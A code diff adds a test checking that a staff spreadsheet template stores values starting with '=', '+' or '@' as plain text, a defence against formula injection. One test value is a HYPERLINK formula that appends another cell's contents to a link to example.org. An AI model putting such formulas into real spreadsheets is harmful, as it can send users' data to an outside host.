@@ -802,3 +802,17 @@ class TestAnyStaffList(BaseCase):
         self.assertEqual(
             [match.ids for match in matches], [(index + 1,) for index in order]
         )
+
+
+@tagged("post_install", "-at_install")
+class TestTemplate(BaseCase):
+    """The empty table holds words only."""
+
+    def test_no_formulas(self):
+        """A name of an area that begins with «=» is a name."""
+        evil = '=HYPERLINK("http://example.org/"&A2,"Робототехника")'
+        content = staff_template.template([evil], [evil, "+1", "@SUM(1)"])
+        book = openpyxl.load_workbook(io.BytesIO(content))
+        texts = [c for sheet in book for row in sheet for c in row if c.value]
+        self.assertEqual(sum(cell.value == evil for cell in texts), 2)
+        self.assertFalse([cell for cell in texts if cell.data_type == "f"])
